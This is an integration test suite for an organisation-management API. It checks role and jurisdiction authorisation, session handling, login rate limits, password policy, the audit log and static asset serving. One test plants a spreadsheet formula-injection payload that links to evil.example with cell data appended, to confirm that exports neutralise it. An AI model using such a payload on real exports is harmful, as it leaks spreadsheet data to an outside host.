/**
 * Authorisation over HTTP against the built api, real PostgreSQL and Redis:
 * role AND jurisdiction on every endpoint, sessions, rate limit, audit — and the web app the api
 * serves on the same port (pre-compressed files, cache headers, SPA fallback).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { existsSync, readFileSync } from 'node:fs';
import { request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { DEMO_PASSWORD, ROOT, startStack, type HttpClient, type Stack } from '../support/stack';

let stack: Stack;
const ids: Record<string, string> = {};

async function orgId(code: string): Promise<string> {
  const { rows } = await stack.db.query<{ id: string }>('select id from organisation where code = $1', [code]);
  if (!rows[0]) throw new Error(`no organisation ${code}`);
  return rows[0].id;
}

beforeAll(async () => {
  stack = await startStack({
    seed: true,
    // one proxy is trusted so a test can log in from other addresses (X-Forwarded-For)
    env: { LOGIN_RATE_LIMIT: '5', LOGIN_IP_RATE_LIMIT: '50', LOGIN_RATE_WINDOW_SECONDS: '60', TRUST_PROXY: '1' },
  });
  ids['province'] = await orgId('410000');
  ids['xinyang'] = await orgId('411500');
  ids['shihe'] = await orgId('411502');
  ids['zhengzhou'] = await orgId('410100');
  ids['jinshui'] = await orgId('410105');
  const { rows } = await stack.db.query<{ organisation_id: string }>(
    "select organisation_id from app_user where username = 'applicant'",
  );
  ids['applicantOrg'] = rows[0].organisation_id;
  const other = await stack.db.query<{ id: string }>(
    "select id from organisation where level = 'institution' and kind = 'hospital' and id <> $1 order by code limit 1",
    [ids['applicantOrg']],
  );
  ids['otherHospital'] = other.rows[0].id;
  const zz = await stack.db.query<{ id: string }>(
    "select o.id from organisation o where o.path like (select path from organisation where code = '410100') || '%' and o.level = 'institution' limit 1",
  );
  ids['zhengzhouHospital'] = zz.rows[0].id;
}, 120_000);

afterAll(async () => {
  await stack?.stop();
});

describe('sessions', () => {
  it('refuses every endpoint the OpenAPI document lists without a session, except health and login', async () => {
    const anon = stack.client();
    const doc = await anon.get('/api/docs-json');
    expect(doc.status).toBe(200);
    const paths = Object.entries(doc.body.paths as Record<string, Record<string, unknown>>);
    expect(paths.length).toBeGreaterThan(8);
    const open: string[] = [];
    for (const [path, ops] of paths) {
      for (const method of Object.keys(ops)) {
        const url = path.replace(/\{[^}]+\}/g, ids['xinyang']);
        const res = await anon.request(method.toUpperCase(), url, method === 'get' ? undefined : {});
        if (res.status !== 401) open.push(`${method} ${path} → ${res.status}`);
      }
    }
    expect(open.sort()).toEqual(['get /api/health → 200', 'post /api/auth/login → 400']);
  });

  it('logs in with an httpOnly SameSite=Strict cookie, and logout ends the session', async () => {
    const client = stack.client();
    const login = await client.post('/api/auth/login', { username: 'viewer', password: 'Hutong-demo-2026' });
    expect(login.status).toBe(200);
    const setCookie = login.headers.get('set-cookie') ?? '';
    expect(setCookie).toMatch(/hutong_sid=/);
    expect(setCookie).toMatch(/HttpOnly/i);
    expect(setCookie).toMatch(/SameSite=Strict/i);
    expect(login.body).toMatchObject({ username: 'viewer', role: 'viewer', jurisdiction: { code: '411500' } });
    const token = client.cookieValue('hutong_sid');
    expect((await client.get('/api/auth/me')).status).toBe(200);
    expect((await client.post('/api/auth/logout')).status).toBe(204);
    // the old token no longer works even if someone kept it
    const replay = stack.client();
    const res = await fetch(`${stack.baseUrl}/api/auth/me`, { headers: { cookie: `hutong_sid=${token}` } });
    expect(res.status).toBe(401);
    expect((await replay.get('/api/auth/me')).status).toBe(401);
  });

  it('answers a wrong password with 401 and records the failure in the audit log', async () => {
    const res = await stack.client().post('/api/auth/login', { username: 'expert', password: 'wrong-password-1' });
    expect(res.status).toBe(401);
    expect(res.body.message).toBe('用户名或密码错误');
    const { rows } = await stack.db.query(
      "select count(*)::int as n from audit_entry where action = 'auth.login_failed' and actor_name = 'expert'",
    );
    expect(rows[0].n).toBe(1);
  });

  it('rate-limits logins per user name and address with 429, leaving other users alone', async () => {
    const c = stack.client();
    const statuses: number[] = [];
    for (let i = 0; i < 7; i++)
      statuses.push((await c.post('/api/auth/login', { username: 'nobody-here', password: 'x' })).status);
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses.slice(5)).toEqual([429, 429]);
    expect(
      (await stack.client().post('/api/auth/login', { username: 'admin', password: 'Hutong-demo-2026' })).status,
    ).toBe(200);
  });

  it('sends Retry-After (seconds) with the 429', async () => {
    const c = stack.client();
    let res = await c.post('/api/auth/login', { username: 'retry-after', password: 'x' });
    for (let i = 0; i < 5; i++) res = await c.post('/api/auth/login', { username: 'retry-after', password: 'x' });
    expect(res.status).toBe(429);
    expect(res.body).toMatchObject({ statusCode: 429, code: 'auth.too_many_attempts' });
    const retry = Number(res.headers.get('retry-after'));
    expect(retry).toBeGreaterThan(0);
    expect(retry).toBeLessThanOrEqual(60);
  });

  it('also limits attempts per address across user names (LOGIN_IP_RATE_LIMIT)', async () => {
    const from = (address: string, username: string) =>
      fetch(`${stack.baseUrl}/api/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
        body: JSON.stringify({ username, password: 'wrong-password-1' }),
      });
    const statuses: number[] = [];
    for (let i = 0; i < 50; i++) statuses.push((await from('203.0.113.7', `spray-${i}`)).status);
    expect(new Set(statuses)).toEqual(new Set([401]));
    const blocked = await from('203.0.113.7', 'spray-last');
    expect(blocked.status).toBe(429);
    expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(0);
    // a real user from that address is refused too, while another address is not
    expect((await from('203.0.113.7', 'admin')).status).toBe(429);
    expect((await from('198.51.100.9', 'spray-0')).status).toBe(401);
  });

  it('answers every /api response with Cache-Control: no-store, errors included', async () => {
    const admin = await stack.login('expert');
    for (const res of [
      await admin.get('/api/auth/me'),
      await admin.get('/api/organisations'),
      await admin.get('/api/organisations/import-template.csv'),
      await stack.client().get('/api/auth/me'),
      await admin.get('/api/organisations/00000000-0000-4000-8000-000000000000'),
    ])
      expect([res.status, res.headers.get('cache-control')]).toEqual([res.status, 'no-store']);
    // the health check (Terminus) sets its own, stricter header
    expect((await stack.client().get('/api/health')).headers.get('cache-control')).toMatch(/\bno-store\b/);
  });

  it('validates the login body', async () => {
    const res = await stack.client().post('/api/auth/login', { username: '', password: 1 });
    expect(res.status).toBe(400);
    expect([...new Set(res.body.details.map((d: { field: string }) => d.field))].sort()).toEqual([
      'password',
      'username',
    ]);
  });
});

describe('applicant: its own organisation only', () => {
  let applicant: HttpClient;
  beforeAll(async () => {
    applicant = await stack.login('applicant');
  });

  it('reads its own organisation', async () => {
    const res = await applicant.get(`/api/organisations/${ids['applicantOrg']}`);
    expect(res.status).toBe(200);
    expect(res.body.id).toBe(ids['applicantOrg']);
  });

  it('cannot read another organisation, not even a neighbour in the same county', async () => {
    expect((await applicant.get(`/api/organisations/${ids['otherHospital']}`)).status).toBe(403);
    expect((await applicant.get(`/api/organisations/${ids['xinyang']}`)).status).toBe(403);
    expect((await applicant.get(`/api/organisations?parentId=${ids['shihe']}`)).status).toBe(403);
  });

  it('lists only itself', async () => {
    const res = await applicant.get('/api/organisations?pageSize=500');
    expect(res.status).toBe(200);
    expect(res.body.items.map((o: { id: string }) => o.id)).toEqual([ids['applicantOrg']]);
    const roots = await applicant.get('/api/organisations/roots');
    expect(roots.body.map((o: { id: string }) => o.id)).toEqual([ids['applicantOrg']]);
  });

  it('cannot change any organisation, its own included, nor import, nor manage users', async () => {
    const before = await stack.db.query('select name from organisation where id = $1', [ids['otherHospital']]);
    expect((await applicant.patch(`/api/organisations/${ids['otherHospital']}`, { name: '改名' })).status).toBe(403);
    expect((await applicant.patch(`/api/organisations/${ids['applicantOrg']}`, { name: '改名' })).status).toBe(403);
    expect((await applicant.postFile('/api/organisations/imports', 'file', 'a.csv', 'code\n')).status).toBe(403);
    expect((await applicant.get('/api/users')).status).toBe(403);
    const after = await stack.db.query('select name from organisation where id = $1', [ids['otherHospital']]);
    expect(after.rows).toEqual(before.rows);
  });
});

describe('coordinator: inside its jurisdiction (信阳市) only', () => {
  let coordinator: HttpClient;
  beforeAll(async () => {
    coordinator = await stack.login('coordinator');
  });

  it('sees the 信阳 subtree and nothing else', async () => {
    const res = await coordinator.get('/api/organisations?pageSize=500');
    expect(res.status).toBe(200);
    const { rows } = await stack.db.query<{ n: number }>(
      "select count(*)::int as n from organisation where path like (select path from organisation where code = '411500') || '%'",
    );
    expect(res.body.total).toBe(rows[0].n);
    expect(res.body.items.every((o: { ancestorIds: string[] }) => o.ancestorIds.includes(ids['xinyang']))).toBe(true);
  });

  it('treats LIKE wildcards in a search as text', async () => {
    const all = await coordinator.get('/api/organisations?q=%25&pageSize=5');
    expect(all.status).toBe(200);
    expect(all.body.total).toBe(0);
    const named = await coordinator.get(`/api/organisations?q=${encodeURIComponent('信阳市中心')}`);
    expect(named.body.items.map((o: { name: string }) => o.name)).toContain('信阳市中心医院');
  });

  it('cannot read, list, create under, change or export outside 信阳', async () => {
    expect((await coordinator.get(`/api/organisations/${ids['zhengzhouHospital']}`)).status).toBe(403);
    expect((await coordinator.get(`/api/organisations?parentId=${ids['zhengzhou']}`)).status).toBe(403);
    expect((await coordinator.get(`/api/organisations/export.xlsx?parentId=${ids['province']}`)).status).toBe(403);
    const create = await coordinator.post('/api/organisations', {
      code: 'OUTSIDE-1',
      name: '越权医院',
      level: 'institution',
      kind: 'hospital',
      regionCode: '410105',
      parentId: ids['jinshui'],
    });
    expect(create.status).toBe(403);
    expect((await coordinator.patch(`/api/organisations/${ids['zhengzhouHospital']}`, { name: '越权' })).status).toBe(
      403,
    );
    const { rows } = await stack.db.query("select count(*)::int as n from organisation where code = 'OUTSIDE-1'");
    expect(rows[0].n).toBe(0);
  });

  it('creates inside its jurisdiction, with an audit entry in the same transaction', async () => {
    const res = await coordinator.post('/api/organisations', {
      code: 'XY-NEW-1',
      name: '浉河区新建社区卫生服务中心',
      level: 'institution',
      kind: 'hospital',
      grade: '1',
      regionCode: '411502',
      parentId: ids['shihe'],
    });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ code: 'XY-NEW-1', parentId: ids['shihe'], grade: '1' });
    const { rows } = await stack.db.query(
      "select actor_name, action, entity_id, before, after, ip from audit_entry where action = 'organisation.create' and entity_id = $1",
      [res.body.id],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      actor_name: 'coordinator',
      before: null,
      after: { code: 'XY-NEW-1', regionCode: '411502' },
    });
    expect(rows[0].ip).toMatch(/^(::ffff:)?127\.0\.0\.1$|^::1$/); // the caller's address, not just any value

    const edit = await coordinator.patch(`/api/organisations/${res.body.id}`, {
      name: '浉河区新建社区卫生服务中心（改）',
    });
    expect(edit.status).toBe(200);
    const audit = await stack.db.query(
      "select before, after from audit_entry where action = 'organisation.update' and entity_id = $1",
      [res.body.id],
    );
    expect(audit.rows[0].before.name).toBe('浉河区新建社区卫生服务中心');
    expect(audit.rows[0].after.name).toBe('浉河区新建社区卫生服务中心（改）');
  });

  it('exports a name that starts like a formula as text (CSV/formula injection), other cells as they are', async () => {
    const name = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")';
    const res = await coordinator.post('/api/organisations', {
      code: 'XY-FORMULA-1',
      name,
      level: 'institution',
      kind: 'hospital',
      regionCode: '411502',
      parentId: ids['shihe'],
    });
    expect(res.status).toBe(201);
    const exported = await fetch(`${stack.baseUrl}/api/organisations/export.xlsx?q=XY-FORMULA`, {
      headers: { cookie: coordinator.cookieHeader() },
    });
    expect(exported.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await exported.arrayBuffer());
    const row = wb.worksheets[0].getRow(2);
    expect(row.getCell(1).value).toBe('XY-FORMULA-1');
    expect(row.getCell(2).value).toBe(`'${name}`);
    expect(row.getCell(2).formula).toBeUndefined();
    // the other cells are plain values, not quoted: only formula-like text is neutralised
    expect(row.getCell(6).value).toBe(row.getCell(6).text);
    expect(String(row.getCell(6).value)).not.toMatch(/^'/);
  });

  it('rejects bad input with a clear 4xx and writes nothing', async () => {
    const before = await stack.db.query('select count(*)::int as n from organisation');
    const bad = await coordinator.post('/api/organisations', {
      code: 'x',
      name: '',
      level: 'planet',
      kind: 'hospital',
      regionCode: '12',
    });
    expect(bad.status).toBe(400);
    expect(bad.body.details.map((d: { field: string }) => d.field).sort()).toEqual([
      'code',
      'level',
      'name',
      'regionCode',
    ]);
    const outside = await coordinator.post('/api/organisations', {
      code: 'XY-BAD-REGION',
      name: '区划不符',
      level: 'institution',
      kind: 'hospital',
      regionCode: '410105',
      parentId: ids['shihe'],
    });
    expect(outside.status).toBe(400);
    expect(outside.body.message).toContain('不在上级区域');
    const dup = await coordinator.post('/api/organisations', {
      code: '411502',
      name: '重复',
      level: 'institution',
      kind: 'hospital',
      regionCode: '411502',
      parentId: ids['shihe'],
    });
    expect(dup.status).toBe(409);
    const after = await stack.db.query('select count(*)::int as n from organisation');
    expect(after.rows[0].n).toBe(before.rows[0].n);
  });

  it('cannot delete (admins only) nor manage users', async () => {
    expect((await coordinator.del(`/api/organisations/${ids['shihe']}`)).status).toBe(403);
    expect((await coordinator.post('/api/users', {})).status).toBe(403);
  });
});

describe('viewer: read-only', () => {
  it('reads its jurisdiction but cannot write', async () => {
    const viewer = await stack.login('viewer');
    expect((await viewer.get(`/api/organisations/${ids['shihe']}`)).status).toBe(200);
    expect((await viewer.patch(`/api/organisations/${ids['shihe']}`, { name: 'x' })).status).toBe(403);
    expect((await viewer.get('/api/organisations/imports')).status).toBe(403);
  });
});

describe('admin: users', () => {
  it('creates a coordinator scoped to 郑州, who then sees 郑州 only; deactivation ends its sessions', async () => {
    const admin = await stack.login('admin');
    const weak = await admin.post('/api/users', {
      username: 'zz-coord',
      displayName: '郑州管理员',
      role: 'coordinator',
      password: 'short',
      jurisdictionId: ids['zhengzhou'],
    });
    expect(weak.status).toBe(400);
    const noScope = await admin.post('/api/users', {
      username: 'zz-coord',
      displayName: '郑州管理员',
      role: 'coordinator',
      password: 'Zhengzhou-2026',
    });
    expect(noScope.status).toBe(400);
    const created = await admin.post('/api/users', {
      username: 'zz-coord',
      displayName: '郑州管理员',
      role: 'coordinator',
      password: 'Zhengzhou-2026',
      jurisdictionId: ids['zhengzhou'],
    });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ username: 'zz-coord', role: 'coordinator', jurisdiction: { code: '410100' } });
    const { rows } = await stack.db.query('select password_hash from app_user where username = $1', ['zz-coord']);
    expect(rows[0].password_hash).toMatch(/^\$argon2id\$/);

    const zz = await stack.login('zz-coord', 'Zhengzhou-2026');
    expect((await zz.get(`/api/organisations/${ids['zhengzhouHospital']}`)).status).toBe(200);
    expect((await zz.get(`/api/organisations/${ids['shihe']}`)).status).toBe(403);

    const off = await admin.patch(`/api/users/${created.body.id}`, { active: false });
    expect(off.status).toBe(200);
    expect((await zz.get('/api/auth/me')).status).toBe(401);
    expect(
      (await stack.client().post('/api/auth/login', { username: 'zz-coord', password: 'Zhengzhou-2026' })).status,
    ).toBe(401);
    const audit = await stack.db.query(
      "select before->>'active' as b, after->>'active' as a from audit_entry where action = 'user.update' and entity_id = $1",
      [created.body.id],
    );
    expect(audit.rows).toEqual([{ b: 'true', a: 'false' }]);
  });

  it('lists users with filters and pagination', async () => {
    const admin = await stack.login('admin');
    const res = await admin.get('/api/users?role=coordinator&pageSize=1');
    expect(res.status).toBe(200);
    expect(res.body.items).toHaveLength(1);
    expect(res.body.total).toBeGreaterThanOrEqual(2);
    expect(res.body.items[0].role).toBe('coordinator');
    expect(JSON.stringify(res.body)).not.toContain('argon2');
  });

  it('applies the password policy on create and on reset, with a stable code on the password field', async () => {
    const admin = await stack.login('admin');
    const base = { username: 'pw-policy', displayName: '密码策略', role: 'viewer', jurisdictionId: ids['xinyang'] };
    const refused: [string, string][] = [
      ['password12', 'password.common'],
      ['Password123', 'password.common'],
      ['pw-policy', 'password.too_short'],
      ['PW-Policy-2026!', 'password.contains_username'],
      ['kq7mzt2wxpab', 'password.too_simple'],
    ];
    for (const [password, code] of refused) {
      const res = await admin.post('/api/users', { ...base, password });
      expect([password, res.status, res.body.code]).toEqual([password, 400, code]);
      expect(res.body.details).toEqual([{ field: 'password', code, reason: res.body.message }]);
    }
    const created = await admin.post('/api/users', { ...base, password: 'Hutong-demo-2026' });
    expect(created.status).toBe(201);
    const reset = await admin.patch(`/api/users/${created.body.id}`, { password: 'Pw-policy#2026' });
    expect([reset.status, reset.body.code]).toEqual([400, 'password.contains_username']);
    expect((await admin.patch(`/api/users/${created.body.id}`, { password: 'Tea-4-two-xyz' })).status).toBe(200);
  });
});

describe('queue dashboard (bull-board)', () => {
  // logs in from its own address (one proxy is trusted), so the other suites' login rate limits are not touched
  async function sessionCookie(username: string): Promise<string> {
    const res = await fetch(`${stack.baseUrl}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': '10.77.0.1' },
      body: JSON.stringify({ username, password: DEMO_PASSWORD }),
    });
    expect(res.status).toBe(200);
    return res.headers
      .getSetCookie()
      .map((c) => c.split(';')[0])
      .join('; ');
  }
  const board = (path: string, cookie?: string) =>
    fetch(`${stack.baseUrl}/api/admin/queues${path}`, { headers: cookie ? { cookie } : {} });

  it('is for admins only: no session 401, a coordinator 403, an admin sees every queue', async () => {
    expect((await board('')).status).toBe(401);
    const refused = await board('/api/queues', await sessionCookie('coordinator'));
    expect(refused.status).toBe(403);
    expect(((await refused.json()) as { code: string }).code).toBe('access.role');
    const admin = await sessionCookie('admin');
    const page = await board('', admin);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('__UI_CONFIG__');
    const queues = await board('/api/queues', admin);
    expect(queues.status).toBe(200);
    const names = ((await queues.json()) as { queues: { name: string }[] }).queues.map((q) => q.name);
    expect(names).toEqual(expect.arrayContaining(['domain-events', 'maintenance', 'rollups', 'task-batch']));
  });
});

describe('audit log', () => {
  it('is append-only, enforced by the database', async () => {
    await expect(stack.db.query("update audit_entry set action = 'tampered'")).rejects.toThrow(/append-only/);
    await expect(stack.db.query('delete from audit_entry')).rejects.toThrow(/append-only/);
  });

  // one admin session for these cases: the per-user-name login limit (5 a window) is under test elsewhere
  let adminSession: HttpClient | undefined;
  const asAdmin = async (): Promise<HttpClient> => (adminSession ??= await stack.login('admin'));

  it('is readable by admins only', async () => {
    const admin = await asAdmin();
    const res = await admin.get('/api/audit?entityType=organisation&pageSize=5');
    expect(res.status).toBe(200);
    expect(res.body.items.length).toBeGreaterThan(0);
    expect((await (await stack.login('coordinator')).get('/api/audit')).status).toBe(403);
  });

  it('filters by Asia/Shanghai dates, user and action on the server, paginated, with a readable object', async () => {
    const admin = await asAdmin();
    const coordinator = await stack.login('coordinator');
    const created = await coordinator.post('/api/organisations', {
      code: 'AUDIT-FILTER-1',
      name: '审计筛选测试医院',
      level: 'institution',
      kind: 'hospital',
      regionCode: '411502',
      parentId: ids['shihe'],
    });
    expect(created.status).toBe(201);
    expect(
      (await coordinator.patch(`/api/organisations/${created.body.id}`, { name: '审计筛选测试医院（改）' })).status,
    ).toBe(200);

    // today in Asia/Shanghai, whatever the machine's zone
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Shanghai' }).format(new Date());
    const coordinatorId = (await coordinator.get('/api/auth/me')).body.id as string;
    const res = await admin.get(
      `/api/audit?from=${today}&to=${today}&actorId=${coordinatorId}&action=organisation.update&pageSize=200`,
    );
    expect(res.status).toBe(200);
    expect(res.body.items.length).toBeGreaterThan(0);
    for (const e of res.body.items) {
      expect(e.action).toBe('organisation.update');
      expect(e.actorId).toBe(coordinatorId);
    }
    const mine = res.body.items.find((e: { entityId: string }) => e.entityId === created.body.id);
    // the object by name (resolved now), and the referenced parent's name for the diff
    expect(mine).toMatchObject({ entityLabel: '审计筛选测试医院（改）', refs: { [ids['shihe']]: expect.any(String) } });

    // exact by default; a trailing dot takes every action so starting
    const prefixed = await admin.get(`/api/audit?actorId=${coordinatorId}&action=organisation.&pageSize=200`);
    expect(new Set(prefixed.body.items.map((e: { action: string }) => e.action))).toEqual(
      new Set(['organisation.create', 'organisation.update']),
    );

    // by user name, too
    const byName = await admin.get(`/api/audit?actor=coordinator&from=${today}&to=${today}&pageSize=200`);
    expect(byName.body.items.every((e: { actorName: string }) => e.actorName === 'coordinator')).toBe(true);
    expect(byName.body.items.map((e: { action: string }) => e.action)).toEqual(
      expect.arrayContaining(['organisation.create', 'organisation.update']),
    );

    // a range that ended yesterday has none of today's entries; pagination is server-side
    const yesterday = new Date(Date.parse(`${today}T00:00:00+08:00`) - 12 * 3600_000);
    const y = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Shanghai' }).format(yesterday);
    const old = await admin.get(`/api/audit?to=${y}&actorId=${coordinatorId}`);
    expect(old.body).toMatchObject({ items: [], total: 0 });
    const all = await admin.get(`/api/audit?from=${today}&to=${today}`);
    const page2 = await admin.get(`/api/audit?from=${today}&to=${today}&page=2&pageSize=2`);
    expect(page2.body).toMatchObject({ page: 2, pageSize: 2, total: all.body.total });
    expect(page2.body.items.map((e: { id: string }) => e.id)).toEqual(
      all.body.items.slice(2, 4).map((e: { id: string }) => e.id),
    );

    expect((await admin.get('/api/audit?from=2026-13-01')).status).toBe(400);
    expect((await admin.get('/api/audit?from=2026-12-02&to=2026-12-01')).status).toBe(400);
  });
});

describe('web app delivery', () => {
  const WEB = join(ROOT, 'dist/apps/web/browser');

  /** A plain GET/HEAD with exactly these headers (fetch would add and undo Accept-Encoding itself). */
  function raw(
    path: string,
    headers: Record<string, string> = {},
    method = 'GET',
  ): Promise<{ status: number; headers: IncomingHttpHeaders; body: Buffer }> {
    return new Promise((resolve, reject) => {
      const req = httpRequest(new URL(path, stack.baseUrl), { method, headers }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
        );
      });
      req.on('error', reject);
      req.end();
    });
  }

  function mainScript(): string {
    const html = readFileSync(join(WEB, 'index.html'), 'utf8');
    const name = /src="(main-[^"]+\.js)"/.exec(html)?.[1];
    if (!name) throw new Error('no main-*.js in dist/apps/web/browser/index.html');
    return name;
  }

  it('was pre-compressed by the build (brotli and gzip beside each bundle)', () => {
    expect(existsSync(join(WEB, 'index.html'))).toBe(true);
    expect(existsSync(join(WEB, `${mainScript()}.br`))).toBe(true);
    expect(existsSync(join(WEB, `${mainScript()}.gz`))).toBe(true);
  });

  it('serves a hashed bundle by Accept-Encoding, immutable for a year', async () => {
    const name = mainScript();
    const original = readFileSync(join(WEB, name));
    const br = await raw(`/${name}`, { 'accept-encoding': 'gzip, deflate, br, zstd' });
    expect(br.status).toBe(200);
    expect(br.headers['content-encoding']).toBe('br');
    expect(br.headers['content-type']).toBe('text/javascript; charset=utf-8');
    expect(br.headers['vary']).toMatch(/Accept-Encoding/i);
    expect(br.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(Number(br.headers['content-length'])).toBe(br.body.length);
    expect(br.body.length).toBeLessThan(original.length / 2);
    expect(brotliDecompressSync(br.body).equals(original)).toBe(true);

    const gz = await raw(`/${name}`, { 'accept-encoding': 'br;q=0, gzip' });
    expect(gz.headers['content-encoding']).toBe('gzip');
    expect(gz.headers['content-type']).toBe('text/javascript; charset=utf-8');
    expect(gunzipSync(gz.body).equals(original)).toBe(true);

    const plain = await raw(`/${name}`);
    expect(plain.headers['content-encoding']).toBeUndefined();
    expect(plain.headers['vary']).toMatch(/Accept-Encoding/i);
    expect(plain.body.equals(original)).toBe(true);

    const styles = /href="(styles-[^"]+\.css)"/.exec(readFileSync(join(WEB, 'index.html'), 'utf8'))?.[1];
    const css = await raw(`/${styles}`, { 'accept-encoding': 'gzip' });
    expect(css.headers['content-type']).toBe('text/css; charset=utf-8');
    expect(css.headers['content-encoding']).toBe('gzip');
    expect(css.headers['cache-control']).toBe('public, max-age=31536000, immutable');
  });

  it('serves index.html, and the app for client-side routes, as no-cache with an ETag (304 when unchanged)', async () => {
    for (const path of ['/', '/index.html', '/organisations/import', '/cycles/5c6f1d2e-0000-4000-8000-000000000000']) {
      const res = await raw(path, { 'accept-encoding': 'br, gzip' });
      expect([path, res.status, res.headers['content-type']]).toEqual([path, 200, 'text/html; charset=utf-8']);
      expect(res.headers['cache-control']).toBe('no-cache');
      expect(res.headers['content-encoding']).toBe('br');
      expect(res.headers['vary']).toMatch(/Accept-Encoding/i);
      expect(brotliDecompressSync(res.body).toString('utf8')).toContain('<app-root>');
    }
    const first = await raw('/', { 'accept-encoding': 'gzip' });
    const again = await raw('/', { 'accept-encoding': 'gzip', 'if-none-match': String(first.headers['etag']) });
    expect(again.status).toBe(304);
    expect(again.body.length).toBe(0);
    const head = await raw('/organisations', {}, 'HEAD');
    expect([head.status, head.headers['cache-control'], head.body.length]).toEqual([200, 'no-cache', 0]);
  });

  it('answers 404 for a missing file and leaves /api to the api', async () => {
    expect((await raw('/chunk-MISSING0.js')).status).toBe(404);
    expect((await raw(`/${mainScript()}.br`)).status).toBe(404);
    const api = await raw('/api/no-such-endpoint', { accept: 'application/json' });
    expect(api.status).toBe(404);
    expect(api.headers['content-type']).toMatch(/application\/json/);
  });
});
